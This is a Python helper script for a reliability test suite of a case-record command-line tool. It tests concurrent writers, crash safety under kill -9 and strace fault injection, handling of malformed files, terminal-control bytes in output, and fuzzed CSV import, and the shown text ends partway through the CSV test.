#!/usr/bin/env python3
"""Helpers of scripts/reliability.sh: the parts that are easier to check in Python than in bash.

Every subcommand prints result lines for the main script to collect:
    RESULT|PASS|case|detail       RESULT|FAIL|case|detail       FIGURE|name|value
and exits 0 (the main script decides from the RESULT lines). Standard library only.
"""
import hashlib, json, os, random, re, signal, subprocess, sys, time

META = {"version", "fieldVersions", "fieldAuthors", "updated", "schema"}


def result(ok, case, detail=""):
    detail = detail.replace("\n", " ").replace("|", "/")
    if len(detail) > 400:
        detail = detail[:400] + " …"
    print(f"RESULT|{'PASS' if ok else 'FAIL'}|{case}|{detail}", flush=True)


def figure(name, value):
    print(f"FIGURE|{name}|{value}", flush=True)


def read(path):
    with open(path, "rb") as f:
        return f.read()


def sha(path):
    try:
        return hashlib.sha256(read(path)).hexdigest()
    except OSError as e:
        return f"<{e.strerror}>"


def journal_entries(d):
    """(entries, torn): every complete line parsed; a last line without a newline is torn."""
    raw = read(os.path.join(d, "journal.jsonl"))
    lines = raw.split(b"\n")
    torn = lines[-1] != b""
    entries, bad = [], []
    for i, line in enumerate(lines[:-1]):
        try:
            entries.append(json.loads(line))
        except ValueError:
            bad.append(i + 1)
    return entries, torn, bad


def youth_files(d):
    yd = os.path.join(d, "youths")
    return sorted(f for f in os.listdir(yd) if f.endswith(".json"))


def replay_problems(d):
    """An independent replay of the journal from empty, compared with every file (without the
    bookkeeping keys). Returns a list of problems."""
    entries, torn, bad = journal_entries(d)
    problems = [f"journal line {n} does not parse" for n in bad]
    rec, ver = {}, {}
    for e in entries:
        key = (e["target"], e["id"])
        if e.get("purged") or e["action"] == "purge":
            rec.pop(key, None)
            continue
        if e["action"] in ("create", "init"):
            rec[key] = {}
        r = rec.setdefault(key, {})
        for c in e["changes"]:
            if c["op"] == "set":
                if "new" in c:
                    r[c["field"]] = c["new"]
                else:
                    r.pop(c["field"], None)
            else:
                r[c["field"]] = r.get(c["field"], []) + c.get("new", [])
        ver[key] = e["version"]
    files = [(("youth", f[:-5]), os.path.join(d, "youths", f)) for f in youth_files(d)]
    files.append((("team", "team"), os.path.join(d, "team.json")))
    for key, path in files:
        try:
            obj = json.loads(read(path))
        except (OSError, ValueError) as e:
            problems.append(f"{path}: {e}")
            continue
        if key not in rec:
            problems.append(f"{path}: not in the journal")
            continue
        a = {k: v for k, v in obj.items() if k not in META}
        b = {k: v for k, v in rec[key].items() if k not in META}
        if a != b:
            diff = sorted(k for k in set(a) | set(b) if a.get(k) != b.get(k))
            problems.append(f"{path}: differs from the replayed journal in {diff}")
        if obj.get("version") != ver.get(key):
            problems.append(f"{path}: version {obj.get('version')}, journal says {ver.get(key)}")
    return problems


# ---------------------------------------------------------------------------------------------
# Concurrent writers

def concurrency(d, logdir):
    ops = []
    for name in sorted(os.listdir(logdir)):
        p = name
        for line in read(os.path.join(logdir, name)).decode("utf-8", "replace").splitlines():
            parts = line.split("\t")
            if len(parts) < 7:
                result(False, "concurrency: log", f"bad log line in {name}: {line!r}")
                continue
            op, youth, field, value, base, rc, out = parts[:7]
            ops.append(dict(proc=p, op=op, youth=youth, field=field, value=value,
                            base=None if base == "-" else int(base), rc=int(rc), out=out))
    entries, torn, bad = journal_entries(d)
    # A conflict names its author as people know them: the name and initials from team.json.
    team = json.loads(read(os.path.join(d, "team.json")))
    initials = {m["id"]: m.get("initials", m["id"]) for m in team.get("staff", [])}
    youths = {}
    for f in youth_files(d):
        youths[f[:-5]] = json.loads(read(os.path.join(d, "youths", f)))
    by_version = {}
    for e in entries:
        if e["target"] == "youth":
            by_version[(e["id"], e["version"])] = e

    figure("concurrency: writer processes", len(os.listdir(logdir)))
    figure("concurrency: changes attempted", len(ops))
    unexpected = [o for o in ops if o["rc"] != 0 and not (o["op"] == "stale" and o["rc"] == 3)]
    result(not unexpected, "concurrency: every change saved or (stale only) a conflict",
           f"{len(unexpected)} other exits: " + "; ".join(f"{o['op']} {o['youth']} rc={o['rc']}: {o['out']}" for o in unexpected[:3]))

    # Every note and contact a process was told was saved is there.
    lost = []
    saved_lists = 0
    for o in ops:
        if o["rc"] != 0 or o["op"] not in ("note", "contact"):
            continue
        saved_lists += 1
        y = youths[o["youth"]]
        if o["op"] == "note":
            found = any(n.get("text") == o["value"] for n in y.get("notes", []))
        else:
            found = any(c.get("note") == o["value"] for c in y.get("contacts", []))
        if not found:
            lost.append(f"{o['op']} {o['youth']} {o['value']!r}")
    figure("concurrency: notes and contacts saved", saved_lists)
    result(not lost, "concurrency: no saved note or contact lost", f"{len(lost)} lost: {lost[:5]}")

    # Different-field writes without a base: every one saved, and journaled.
    plain = [o for o in ops if o["op"] == "set"]
    missing = []
    for o in plain:
        m = re.search(r"Version (\d+)\.", o["out"])
        e = by_version.get((o["youth"], int(m.group(1)))) if m else None
        if o["rc"] == 0 and (e is None or o["value"] not in json.dumps([c.get("new") for c in e["changes"]], ensure_ascii=False)):
            missing.append(f"{o['youth']} {o['field']}={o['value']!r}")
    figure("concurrency: different-field changes saved", sum(1 for o in plain if o["rc"] == 0))
    result(not missing, "concurrency: every different-field change is journaled at the version it reported", f"{missing[:5]}")

    # Same field from stale versions: a success never overwrote a change it had not seen; a
    # conflict names a real later change; at most one success per (youth, base).
    stale = [o for o in ops if o["op"] == "stale"]
    wins = [o for o in stale if o["rc"] == 0]
    conflicts = [o for o in stale if o["rc"] == 3]
    figure("concurrency: same-field changes from a read version", len(stale))
    figure("concurrency: same-field conflicts reported (exit 3)", len(conflicts))
    figure("concurrency: same-field changes saved", len(wins))
    lost_updates, fake_conflicts, double = [], [], []
    for o in wins:
        m = re.search(r"Version (\d+)\.", o["out"])
        if not m:
            lost_updates.append(f"no version in {o['out']!r}")
            continue
        w = int(m.group(1))
        e = by_version.get((o["youth"], w))
        if e is None or not any(c["field"] == "warning" and c.get("new") == o["value"] for c in e["changes"]):
            lost_updates.append(f"{o['youth']} v{w} is not {o['value']!r} in the journal")
        for v in range(o["base"] + 1, w):
            e2 = by_version.get((o["youth"], v))
            if e2 and any(c["field"] == "warning" for c in e2["changes"]):
                lost_updates.append(f"{o['youth']}: {o['value']!r} based on v{o['base']} overwrote the warning of v{v} unseen")
    for o in conflicts:
        m = re.search(r"\(version (\d+)\)", o["out"])
        if not m:
            fake_conflicts.append(f"no version named in {o['out']!r}")
            continue
        v = int(m.group(1))
        e = by_version.get((o["youth"], v))
        if v <= o["base"] or e is None or not any(c["field"] == "warning" for c in e["changes"]):
            fake_conflicts.append(f"{o['youth']} based on v{o['base']}: conflict names v{v}")
        elif f"by {e['staff']} " not in o["out"] and f"({initials.get(e['staff'], '?')})" not in o["out"]:
            fake_conflicts.append(f"{o['youth']} v{v}: conflict names the wrong author: {o['out']!r} (journal: {e['staff']})")
    groups = {}
    for o in stale:
        groups.setdefault((o["youth"], o["base"]), []).append(o)
    clashes = 0
    for key, g in groups.items():
        if len(g) >= 2:
            clashes += 1
        n = sum(1 for o in g if o["rc"] == 0)
        if n > 1:
            double.append(f"{key}: {n} writers based on the same version all saved the same field")
    # Two processes clashing from the same version: one side saved, the other told (exit 3).
    cross = 0
    for key, g in groups.items():
        procs = {o["proc"] for o in g}
        if len(procs) >= 2 and any(o["rc"] == 0 for o in g):
            cross += 1
    figure("concurrency: clashes between processes from the same version", cross)
    result(not lost_updates, "concurrency: no stale write overwrote a change it had not seen", f"{lost_updates[:4]}")
    result(not fake_conflicts, "concurrency: every conflict names a real later change of the field and its author", f"{fake_conflicts[:4]}")
    result(not double, "concurrency: a clash from one version is saved for at most one side, the others get exit 3", f"{double[:4]}")
    result(len(conflicts) > 0 and cross > 0, "concurrency: conflicts really happened (count > 0, also between processes)",
           f"{len(conflicts)} conflicts, {cross} cross-process clashes")
    p = replay_problems(d)
    result(not p and not torn and not bad, "concurrency: the journal replayed from empty (independently) equals every file", f"{p[:4]} torn={torn}")


# ---------------------------------------------------------------------------------------------
# Crashes

def snapshot(d):
    snap = {"team.json": read(os.path.join(d, "team.json"))}
    for f in youth_files(d):
        snap["youths/" + f] = read(os.path.join(d, "youths", f))
    return snap


def parses_problems(d):
    out = []
    for f in ["team.json"] + ["youths/" + f for f in youth_files(d)]:
        try:
            json.loads(read(os.path.join(d, f)))
        except (OSError, ValueError) as e:
            out.append(f"{f}: {e}")
    _, torn, bad = journal_entries(d)
    out += [f"journal line {n} does not parse" for n in bad]
    return out


def old_or_new(d, before, targets, markers):
    """Every file other than the targets is byte-identical; each target is its old bytes, or a
    whole new version (old version + 1, or version 1 for a new file) holding its marker.
    `youths/*` stands for a new youth file. Returns (problems, state)."""
    if isinstance(targets, str):
        targets, markers = [targets], [markers]
    now = snapshot(d)
    problems = []
    state = "old"
    new_files = [k for k in now if k not in before]
    for k in set(before) | set(now):
        if k in targets or ("youths/*" in targets and k in new_files):
            continue
        if before.get(k) != now.get(k):
            problems.append(f"{k} changed though the write was to {targets}")
    for target, marker in zip(targets, markers):
        for k in (new_files if target == "youths/*" else [target]):
            if now.get(k) == before.get(k):
                continue
            try:
                obj = json.loads(now[k])
            except (KeyError, ValueError) as e:
                problems.append(f"{k}: half-written or missing: {e}")
                continue
            want = json.loads(before[k])["version"] + 1 if k in before else 1
            if obj.get("version") != want or marker.encode() not in now[k]:
                problems.append(f"{k}: neither old nor new (version {obj.get('version')}, expected {want} with {marker!r})")
            state = "new"
    return problems, state


def tmp_left(d):
    try:
        return os.listdir(os.path.join(d, "tmp"))
    except OSError:
        return []


class Hung:
    """What run() returns for a command that did not finish in time (it is killed)."""
    def __init__(self, argv, timeout):
        self.returncode = -999
        self.stdout = b""
        self.stderr = f"HUNG: {' '.join(argv[1:])} did not finish in {timeout} s".encode()


def run(argv, timeout=60, **kw):
    try:
        return subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=timeout, **kw)
    except subprocess.TimeoutExpired:
        return Hung(argv, timeout)


def crash_random(tavle, d, want_kills):
    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
    youths = ["sofie", "noah", "thea", "sara"]
    kills = rounds = 0
    states = {"old": 0, "new": 0}
    problems = []
    temps_seen = 0
    # A write's typical duration on this machine: kills are spread over it (and a bit beyond).
    t0 = time.time()
    for i in range(3):
        run([tavle, "--data", d, "note", "filip", f"timing {i}"])
    span = (time.time() - t0) / 3
    figure("crashes: one write takes (mean of 3)", f"{span * 1000:.0f} ms")
    while kills < want_kills and rounds < want_kills * 3:
        rounds += 1
        y = youths[rounds % 4]
        marker = f"random kill {rounds}"
        kind = rounds % 4
        argv = {0: ["note", y, marker], 1: ["contact", y, "--kind", "phone", "--note", marker],
                2: ["set", y, "goals", marker], 3: ["set", y, "warning", marker]}[kind]
        before = snapshot(d)
        p = subprocess.Popen([tavle, "--data", d] + argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rnd.uniform(0.3, 1.1) * span)
        p.send_signal(signal.SIGKILL)
        p.wait()
        if p.returncode == -signal.SIGKILL:
            kills += 1
        else:
            # The write finished before the kill: writes got faster than first measured (a busy
            # machine at the start), so aim earlier.
            span *= 0.8
        pr = parses_problems(d)
        pr2, state = old_or_new(d, before, "youths/" + y + ".json", marker)
        states[state] += 1
        if pr or pr2:
            problems.append(f"round {rounds}: {pr + pr2}")
        if tmp_left(d):
            temps_seen += 1
        # The next start (a writer on another youth) cleans up or rolls forward.
        r = run([tavle, "--data", d, "note", "filip", f"after kill {rounds}"])
        if r.returncode != 0:
            problems.append(f"round {rounds}: the next writer failed: {r.stderr.decode(errors='replace')}")
        if tmp_left(d):
            problems.append(f"round {rounds}: temp files left after the next writer: {tmp_left(d)}")
        if rounds % 25 == 0:
            c = run([tavle, "--data", d, "check"])
            if c.returncode != 0:
                problems.append(f"round {rounds}: check: {c.stdout.decode(errors='replace')}")
    figure("crashes: writers killed at random moments (kill -9)", kills)
    figure("crashes: random kills that left the old / the new version", f"{states['old']} / {states['new']}")
    figure("crashes: random kills that left a temp file behind", temps_seen)
    result(kills >= want_kills and not problems, f"crashes: {kills} random kill -9: every file whole, old or new; temp files cleaned by the next writer",
           "; ".join(problems[:4]))
    c = run([tavle, "--data", d, "check"])
    p = replay_problems(d)
    result(c.returncode == 0 and not p, "crashes: after the random kills `tavle check` is clean and the journal replays to the files",
           c.stdout.decode(errors="replace") + " " + str(p[:3]))


def crash_steps(tavle, d):
    """strace -e inject=SYSCALL:signal=SIGKILL:when=N for each step of each kind of write."""
    steps = 0
    problems = []
    per = {}
    ops = [
        ("youth update (note)", lambda m: ["note", "thea", m], "youths/thea.json"),
        ("youth update with --if-version (status)", None, "youths/sara.json"),
        ("new youth (add)", lambda m: ["add", "--name", m, "--born", "2010-05-05"], "youths/*"),
        ("team update (staff add)", None, "team.json"),
    ]
    for label, build, target in ops:
        # Files are renamed and removed relative to a directory opened without following links
        # (renameat, unlinkat); plain rename/unlink are kept in case a build uses them.
        for i, sc in enumerate(["write", "fsync", "renameat", "rename", "flock", "unlinkat", "unlink", "ftruncate"]):
            for n in range(1, 30):
                # Initials of their own (QBC…): a namesake would be given a label number by the add,
                # a second file changed on purpose (stable labels, issue 13); a colleague's initials
                # are never shared by two active members (issue 27).
                marker = f"Qstrace {chr(65 + i)}{sc} {chr(65 + n)}x {n}"
                if label.startswith("team"):
                    sid = f"s{i}{sc[:3]}{n}"
                    argv = ["staff", "add", "--name", marker, "--initials", f"Q{chr(65 + i)}{chr(65 + n // 26)}{chr(65 + n % 26)}", "--role", "psychologist", "--id", sid]
                    marker = sid
                elif label.startswith("youth update with"):
                    v = json.loads(read(os.path.join(d, "youths/sara.json")))["version"]
                    status = ["worried", "crisis", "stable"][n % 3]
                    cur = json.loads(read(os.path.join(d, "youths/sara.json")))["status"]
                    if status == cur:
                        status = ["worried", "crisis", "stable"][(n + 1) % 3]
                    argv = ["status", "sara", status, "--if-version", str(v), "--why", "crash test"]
                    marker = f'"status" : "{status}"'
                else:
                    argv = build(marker)
                before = snapshot(d)
                r = run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject={sc}:signal=SIGKILL:when={n}",
                         tavle, "--data", d] + argv)
                killed = r.returncode in (137, -9) or b"Killed" in r.stderr
                if r.returncode == 0:
                    break  # the command finished: every step of this kind was covered
                if not killed:
                    problems.append(f"{label} {sc}#{n}: exit {r.returncode}: {r.stderr.decode(errors='replace')[:200]}")
                    break
                steps += 1
                per[sc] = per.get(sc, 0) + 1
                pr = parses_problems(d)
                pr2, _ = old_or_new(d, before, target, marker)
                if pr or pr2:
                    problems.append(f"{label}, killed at {sc} #{n}: {pr + pr2}")
                rr = run([tavle, "--data", d, "note", "filip", f"after strace {sc} {n}"])
                if rr.returncode != 0 or tmp_left(d):
                    problems.append(f"{label}, killed at {sc} #{n}: next writer exit {rr.returncode}, temp files {tmp_left(d)}")
                c = run([tavle, "--data", d, "check"])
                if c.returncode != 0:
                    problems.append(f"{label}, killed at {sc} #{n}: check: {c.stdout.decode(errors='replace')[:300]}")
    figure("crashes: writes killed at a step of the write path (strace inject)", steps)
    figure("crashes: steps by system call", ", ".join(f"{k} {v}" for k, v in sorted(per.items())))
    result(steps >= 20 and not problems, f"crashes: killed at each of {steps} write-path steps (write/fsync/renameat/flock/unlinkat × note, status --if-version, add, staff add): old or new, next writer recovers, check clean",
           "; ".join(problems[:4]))

    # A crash during recovery: a change is journaled but not renamed (killed at its rename); the
    # next writer, which rolls it forward, is itself killed at each of its steps.
    rsteps = 0
    problems = []
    for sc in ["renameat", "fsync", "write", "unlinkat", "flock"]:
        for n in range(1, 20):
            pending = f"pending {sc} {n}"
            run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", "inject=rename,renameat:signal=SIGKILL:when=1",
                 tavle, "--data", d, "note", "thea", pending])
            if not tmp_left(d):
                problems.append(f"{sc} #{n}: setting up the pending change left no temp file")
                break
            before = snapshot(d)
            marker = f"recovering {sc} {n}"
            r = run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject={sc}:signal=SIGKILL:when={n}",
                     tavle, "--data", d, "note", "filip", marker])
            pr = parses_problems(d)
            pr2, _ = old_or_new(d, before, ["youths/thea.json", "youths/filip.json"], [pending, marker])
            if pr or pr2:
                problems.append(f"recovery killed at {sc} #{n}: {pr + pr2}")
            if r.returncode != 0:
                rsteps += 1
            rr = run([tavle, "--data", d, "note", "filip", f"after recovery {sc} {n}"])
            if rr.returncode != 0 or tmp_left(d) or pending.encode() not in read(os.path.join(d, "youths/thea.json")):
                problems.append(f"recovery killed at {sc} #{n}: next writer exit {rr.returncode}, temp {tmp_left(d)}, pending change rolled forward: {pending.encode() in read(os.path.join(d, 'youths/thea.json'))}")
            c = run([tavle, "--data", d, "check"])
            if c.returncode != 0:
                problems.append(f"recovery killed at {sc} #{n}: check: {c.stdout.decode(errors='replace')[:300]}")
            if r.returncode == 0:
                break
    figure("crashes: recoveries (roll-forward) killed at a step", rsteps)
    result(rsteps >= 5 and not problems, f"crashes: a recovering writer killed at each of {rsteps} steps (renameat/fsync/write/unlinkat/flock): old or new, the journaled change is still rolled forward, check clean",
           "; ".join(problems[:4]))


# ---------------------------------------------------------------------------------------------
# Malformed files

def malformed(tavle, template, work, big):
    import shutil
    count = 0
    problems = {}

    def fresh(name, keep_index=False):
        """A copy of the template. Without the index (see the case below: a fresh index hides a
        file damaged behind tavle's back), so that every case tests the loaders themselves."""
        d = os.path.join(work, name)
        shutil.rmtree(d, ignore_errors=True)
        shutil.copytree(template, d, symlinks=True)
        if not keep_index and os.path.exists(os.path.join(d, "index.json")):
            os.unlink(os.path.join(d, "index.json"))
        return d

    def listing(d, bad_name, expect_ids, tmo=15):
        r = run(timeout=tmo, argv=[tavle, "--data", d, "list", "--json"])
        out = []
        if r.returncode != 0:
            out.append(f"list exit {r.returncode}: {r.stderr.decode(errors='replace')[:200]}")
            return out
        try:
            ids = {y["id"] for y in json.loads(r.stdout)}
        except ValueError:
            return ["list --json printed no JSON"]
        missing = expect_ids - ids
        if missing:
            out.append(f"list lost {sorted(missing)}")
        if bad_name and bad_name.encode() not in r.stderr:
            out.append(f"list did not name {bad_name}: {r.stderr.decode(errors='replace')[:200]!r}")
        return out

    tpl_ids = {f[:-5] for f in youth_files(template)}

    # 0) A youth file damaged behind tavle's back while the board index is fresh (the everyday case).
    d = fresh("stale-index", keep_index=True)
    run(timeout=15, argv=[tavle, "--data", d, "list"])
    with open(os.path.join(d, "youths", "thea.json"), "wb") as f:
        f.write(b'{"schema": 2, "id": "th')
    r = run(timeout=15, argv=[tavle, "--data", d, "list", "--json"])
    try:
        shown = {y["id"] for y in json.loads(r.stdout)}
    except ValueError:
        shown = set()
    count += 1
    result(b"thea.json" in r.stderr and "thea" not in shown,
           "malformed: a youth file damaged behind tavle's back while index.json is fresh: list names it (not shown from the index)",
           f"list exit {r.returncode}, thea shown from the index: {'thea' in shown}, stderr: {r.stderr.decode(errors='replace')[:200]!r}")

    # 1) Truncated at every byte of a valid youth file (the smallest one).
    small = min(youth_files(template), key=lambda f: os.path.getsize(os.path.join(template, "youths", f)))
    sid = small[:-5]
    full = read(os.path.join(template, "youths", small))
    step = int(os.environ.get("REL_TRUNC_STEP", "1"))
    trunc_fail = []

    def truncations(worker, nworkers):
        d = fresh(f"trunc{worker}")
        bad = os.path.join(d, "youths", small)
        out = []
        for n in range(worker * step, len(full), nworkers * step):
            with open(bad, "wb") as f:
                f.write(full[:n])
            before = sha(bad)
            r = run(timeout=15, argv=[tavle, "--data", d, "list", "--json"])
            try:
                json.loads(full[:n])
                whole = True   # e.g. only the final newline cut: still a valid file, to be listed
            except ValueError:
                whole = False
            ok = r.returncode == 0 and (whole or small.encode() in r.stderr)
            if ok:
                try:
                    ids = {y["id"] for y in json.loads(r.stdout)}
                    ok = ids == (tpl_ids if whole else tpl_ids - {sid})
                except ValueError:
                    ok = False
            if not ok or sha(bad) != before:
                out.append(f"{n} bytes: exit {r.returncode} {r.stderr.decode(errors='replace')[:120]!r}")
        return out

    import concurrent.futures
    workers = max(1, min(4, os.cpu_count() or 1))
    with concurrent.futures.ThreadPoolExecutor(workers) as ex:
        for out in ex.map(lambda w: truncations(w, workers), range(workers)):
            trunc_fail += out
    count += len(range(0, len(full), step))
    figure("malformed: truncations of a valid youth file (every byte)", len(full))
    result(not trunc_fail, f"malformed: {small} truncated at each of its {len(full)} bytes: no crash, named, the other {len(tpl_ids) - 1} listed, never overwritten",
           "; ".join(trunc_fail[:3]))

    valid = json.loads(full)
    def with_(**kw):
        o = dict(valid); o.update(kw); return json.dumps(o).encode()
    def without(k):
        o = dict(valid); o.pop(k, None); return json.dumps(o).encode()
    dup = json.dumps(valid)[:-1].encode() + b', "name": 42, "id": "someone-else"}'
    cases = [
        ("empty file", b""),
        ("only NUL bytes", b"\0" * 4096),
        ("NUL inside a string", full.replace(b'"name" : "', b'"name" : "\0', 1) if b'"name" : "' in full else full.replace(b'"name":"', b'"name":"\0', 1)),
        ("invalid UTF-8", full.replace(b'"name" : "', b'"name" : "\xff\xfe\xc3(', 1)),
        ("a UTF-16 file", full.decode().encode("utf-16")),
        ("wrong types (version a string)", with_(version="7")),
        ("wrong types (notes an object)", with_(notes={"a": 1})),
        ("wrong types (born a number)", with_(born=20100101)),
        ("missing field name", without("name")),
        ("missing field id", without("id")),
        ("duplicated keys", dup),
        ("100,000-deep nesting", b'{"schema":2,"id":"x","notes":' + b"[" * 100000 + b"]" * 100000 + b"}"),
        ("100,000-deep objects", b'{"a":' * 100000 + b"1" + b"}" * 100000),
        ("future schema version", with_(schema=99)),
        ("id of another youth", with_(id="sofie")),
        ("JSON array, not an object", b"[1,2,3]"),
        ("a huge number", with_(version=10 ** 40)),
        ("trailing garbage", full + b"\n}}garbage"),
        ("a directory instead of a file", None),
        ("a fifo instead of a file", "fifo"),
    ]
    if big:
        cases.append(("a 100 MB file", "big"))
    for label, content in cases:
        t0 = time.time()
        print(f"  malformed case: {label}", file=sys.stderr, flush=True)
        d = fresh("case")
        bad = os.path.join(d, "youths", small)
        os.unlink(bad)
        if content is None:
            os.mkdir(bad)
        elif content == "fifo":
            os.mkfifo(bad)
        elif content == "big":
            with open(bad, "wb") as f:
                f.write(full[:-2])
                f.write(b', "goals": "')
                chunk = b"x" * (1 << 20)
                for _ in range(100):
                    f.write(chunk)
                f.write(b'"}')
        else:
            with open(bad, "wb") as f:
                f.write(content)
        before = sha(bad) if os.path.isfile(bad) else "special"
        count += 1
        tmo = 4 if content == "fifo" else 15
        pr = listing(d, small, tpl_ids - {sid}, tmo)
        # Writing to the bad youth is refused and names the file; writing to another works.
        r = run(timeout=tmo, argv=[tavle, "--data", d, "note", sid, "must not be written"])
        if r.returncode == 0:
            pr.append("a note to the bad file was saved")
        elif r.returncode not in (2, 4) or small.encode() not in r.stderr:
            pr.append(f"note to it: exit {r.returncode}, not naming it: {r.stderr.decode(errors='replace')[:160]!r}")
        r = run(timeout=tmo, argv=[tavle, "--data", d, "note", "sofie", "still works"])
        if r.returncode != 0:
            pr.append(f"a note to another youth failed: {r.stderr.decode(errors='replace')[:160]}")
        r = run(timeout=tmo, argv=[tavle, "--data", d, "show", "sofie"])
        if r.returncode != 0:
            pr.append("show of another youth failed")
        c = run(timeout=tmo, argv=[tavle, "--data", d, "check"])
        if c.returncode != 2 or small.encode() not in c.stdout + c.stderr:
            pr.append(f"check exit {c.returncode}, not naming the file")
        if c.returncode == -999 or r.returncode == -999 or any(x.startswith("list exit -999") for x in pr):
            pr.append("a command HUNG (killed after 15 s)")
        elif c.returncode < 0 or r.returncode < 0:
            pr.append("crashed")
        after = sha(bad) if os.path.isfile(bad) else "special"
        if after != before:
            pr.append("THE BAD FILE WAS OVERWRITTEN")
        if pr:
            problems[label] = pr
        result(not pr, f"malformed youth file: {label}", "; ".join(pr))
        if content == "big":
            os.unlink(bad)

    # Other files: the journal, the team file, the index, the access log, a meeting and the rota.
    def other(label, rel, content, expect_list_ok=True, must_name=True, may_repair=False):
        nonlocal count
        d = fresh("other")
        path = os.path.join(d, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if callable(content):
            content(path)
        else:
            with open(path, "wb") as f:
                f.write(content)
        before = sha(path)
        count += 1
        r = run(timeout=15, argv=[tavle, "--data", d, "list", "--json"])
        pr = []
        if r.returncode < 0:
            pr.append("crashed")
        if expect_list_ok:
            pr += listing(d, None, tpl_ids)
        else:
            if r.returncode not in (2, 4) or os.path.basename(rel).encode() not in r.stderr:
                pr.append(f"list exit {r.returncode} without naming {rel}: {r.stderr.decode(errors='replace')[:160]!r}")
        c = run(timeout=15, argv=[tavle, "--data", d, "check"])
        if c.returncode < 0:
            pr.append("check crashed")
        if must_name and (c.returncode == 0 or os.path.basename(rel).encode() not in c.stdout + c.stderr):
            pr.append(f"check exit {c.returncode} without naming {rel}")
        if sha(path) != before and rel not in ("index.json",) and not may_repair:
            pr.append(f"{rel} was overwritten")
        result(not pr, f"malformed: {label}", "; ".join(pr))
        return d

    def torn(path):
        with open(path, "ab") as f:
            f.write(b'{"action":"note","at":"2026-11-22T09:00:00+01:00","changes":[{"field":"no')
    d = other("journal with a torn last line (read side)", "journal.jsonl", torn, must_name=False, may_repair=True)
    # The next writer cuts the torn line; the journal and files then agree.
    r = run(timeout=15, argv=[tavle, "--data", d, "note", "sofie", "after a torn journal"])
    c = run(timeout=15, argv=[tavle, "--data", d, "check"])
    _, t2, bad2 = journal_entries(d)
    result(r.returncode == 0 and c.returncode == 0 and not t2 and not bad2,
           "malformed: journal with a torn last line: the next writer cuts it, check clean",
           f"note exit {r.returncode}, check exit {c.returncode}: {c.stdout.decode(errors='replace')[:200]}")
    other("journal with a garbage line in the middle", "journal.jsonl",
          lambda p: open(p, "r+b").write(b"\0\0garbage\n"), must_name=True)
    other("team.json empty", "team.json", b"", expect_list_ok=False)
    other("team.json with NUL bytes", "team.json", b"\0" * 100, expect_list_ok=False)
    other("team.json from a future schema", "team.json",
          lambda p: open(p, "wb").write(json.dumps(dict(json.loads(read(os.path.join(template, "team.json"))), schema=99)).encode()),
          expect_list_ok=False, must_name=True)
    other("index.json garbage (rebuilt)", "index.json", b"\xff\xfe garbage \0", must_name=False)
    other("index.json 100,000-deep", "index.json", b"[" * 100000, must_name=False)
    other("access.jsonl garbage", "access.jsonl", b"\0\xff{{{\n", must_name=False)
    other("rota.json garbage", "rota.json", b"{\"schema\":", must_name=True)
    other("meeting file garbage", "meetings/2026-11-22.json", b"\xff\0[[[", must_name=True)
    other("meeting current-youth file garbage", "meetings/2026-11-22.current", b"\0{", must_name=False)
    figure("malformed: malformed inputs tried", count)


# ---------------------------------------------------------------------------------------------
# Terminal injection: raw bytes that a terminal would act on.

BAD = [
    (re.compile(rb"\x1b"), "ESC"),
    (re.compile(rb"\xc2[\x80-\x9f]"), "C1 control"),
    (re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]"), "C0 control"),
    (re.compile(rb"\r(?!\n)"), "bare CR"),  # CRLF (CSV's line end) is harmless
    (re.compile(rb"\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\xd8\x9c"), "bidi control"),
    (re.compile(rb"\xe2\x80[\x8b-\x8f]|\xe2\x81[\xa0-\xa4]|\xef\xbb\xbf|\xc2\xad"), "zero-width/invisible"),
]


def raw_controls(data):
    found = []
    for rx, name in BAD:
        m = rx.search(data)
        if m:
            found.append(f"{name} at byte {m.start()}: {data[max(0, m.start() - 20):m.end() + 20]!r}")
    return found


def inject_check(files):
    for path in files:
        data = read(path)
        found = raw_controls(data)
        result(not found, f"terminal injection: {os.path.basename(path)} has no raw control, bidi or zero-width bytes", "; ".join(found[:2]))


# ---------------------------------------------------------------------------------------------
# CSV import through the binary: random mutations of a valid spreadsheet.

def csv_mutate(tavle, d, work, n):
    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
    seeds = [
        "navn;født;kontakt;modus;status;grunn;varsel\nKari Nordmann;01.02.2009;ole;tavle;krise;krise;Ring mor\nPer Hansen;2008-03-04;siri;oppfølging;stabil;;\n",
        "name,born,contact,mode,status,reason,note\n\"Hansen, Eva\",2010-01-01,ole,intensive,worried,vulnerable,\"a \"\"quoted\"\" note\nover lines\"\n",
        "\ufeffNavn;Født;Primærkontakt;Domener\nÅse Øyen;3.4.2011;siri;skole,familie\n",
    ]
    tokens = [b";", b",", b'"', b"\n", b"\r\n", b"\r", b"\0", b"\xff", b"\xc3", b"\xef\xbb\xbf", b"\x1b]0;x\x07", b"\xe2\x80\xae",
              b"2010-13-45", b"99.99.9999", b"-1", b"9" * 30, b"'", b'""', b"navn", "født".encode(), b"\t", b" " * 50]
    codes = {}
    crashes = []
    for i in range(n):
        data = bytearray(rnd.choice(seeds).encode("utf-8") if i % 3 else rnd.choice(seeds).encode("cp1252", "replace"))
        for _ in range(rnd.randint(1, 8)):
            op = rnd.randint(0, 4)
            pos = rnd.randint(0, len(data))
            if op == 0 and data:
                del data[pos:pos + rnd.randint(1, 8)]
            elif op == 1:
                data[pos:pos] = rnd.choice(tokens)
            elif op == 2 and data:
                data[min(pos, len(data) - 1)] = rnd.randint(0, 255)
            elif op == 3:
                data = data[:pos]
            else:
                data[pos:pos] = data[rnd.randint(0, len(data)):][:rnd.randint(0, 40)]
        path = os.path.join(work, "in.csv")
        with open(path, "wb") as f:
            f.write(data)
        r = run([tavle, "--data", d, "import", path, "--dry-run"])
        codes[r.returncode] = codes.get(r.returncode, 0) + 1
        if r.returncode not in (0, 1, 2):
            keep = os.path.join(work, f"csv-crash-{i}.csv")
            with open(keep, "wb") as f:
                f.write(data)
            crashes.append(f"exit {r.returncode} on {keep}: {r.stderr.decode(errors='replace')[-200:]!r}")
        if raw_controls(r.stdout + r.stderr.replace(b"\n", b"")):
            crashes.append(f"raw control bytes in the import's output for input {i}")
